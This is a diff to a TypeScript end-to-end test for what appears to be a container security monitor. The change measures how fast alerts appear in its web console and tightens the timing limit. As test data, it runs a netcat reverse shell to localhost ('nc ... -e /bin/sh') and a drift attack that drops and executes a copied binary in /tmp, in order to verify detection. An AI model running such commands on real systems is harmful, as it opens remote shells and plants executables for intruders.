@@ -68,9 +68,11 @@ describe("one machine, guarded", { skip }, () => {
     await page.waitForLoadState("networkidle").catch(() => undefined);
     const row = page.getByRole("row").filter({ hasText: victim.id });
     assert.equal(await row.count(), 0);
+    // The page tells by its own clock: this process is busy with the attack meanwhile.
+    const seen = page.evaluate<number>(seenAt(victim.id));
+    await new Promise((resolve) => setTimeout(resolve, 200));
     victim.exec("sh", "-c", command);
     await row.first().waitFor({ timeout: 10_000 });
-    const seen = Date.now();
     const { items } = await api.listAlerts({ query: { rule } });
     assert.equal(items.length, 1);
     const alert = items[0];
@@ -78,10 +80,10 @@ describe("one machine, guarded", { skip }, () => {
     assert.equal(alert.container?.id, victim.id);
     assert.deepEqual(alert.container?.image, containerd.image);
     await row.first().click();
-    const detail = page.getByRole("dialog");
+    const detail = page.getByRole("complementary");
     await detail.waitFor();
     await page.waitForTimeout(500);
-    return { delay: seen - alert.time, text: await detail.innerText() };
+    return { delay: (await seen) - alert.time, text: await detail.innerText() };
   }
 
   test("a reverse shell is in the console within a second, with peer, process tree and image", async () => {
@@ -89,7 +91,7 @@ describe("one machine, guarded", { skip }, () => {
       "reverse-shell",
       "(sleep 3 | nc -lp 4444 >/dev/null 2>&1 &); sleep 1; nc 127.0.0.1 4444 -e /bin/sh >/dev/null 2>&1 & sleep 0.3; true",
     );
-    assert.ok(delay < 1000 + 200, `${delay} ms from the kernel to the page`);
+    assert.ok(delay < 1000, `${delay} ms from the kernel to the page`);
     assert.match(text, /127\.0\.0\.1:4444/);
     assert.match(text, /\/bin\/busybox/);
     assert.match(text, /registry\.example\/bulwark\/busybox:1/);
@@ -101,7 +103,7 @@ describe("one machine, guarded", { skip }, () => {
       "drift",
       "cp /bin/busybox /tmp/dropped; chmod +x /tmp/dropped; /tmp/dropped true; true",
     );
-    assert.ok(delay < 1000 + 200, `${delay} ms from the kernel to the page`);
+    assert.ok(delay < 1000, `${delay} ms from the kernel to the page`);
     assert.match(text, /\/tmp\/dropped/);
     assert.match(text, /cp \/bin\/busybox \/tmp\/dropped/);
   });
@@ -139,3 +141,12 @@ describe("one machine, guarded", { skip }, () => {
     assert.equal(state("spool"), "ok");
   });
 });
+
+/** Answers with the time at which a row with this text is on the page. */
+function seenAt(text: string): string {
+  return `new Promise((resolve) => {
+    const isThere = () => [...document.querySelectorAll("[role=row]")].some((row) => row.textContent.includes(${JSON.stringify(text)}));
+    const look = () => (isThere() ? resolve(Date.now()) : requestAnimationFrame(look));
+    look();
+  })`;
+}
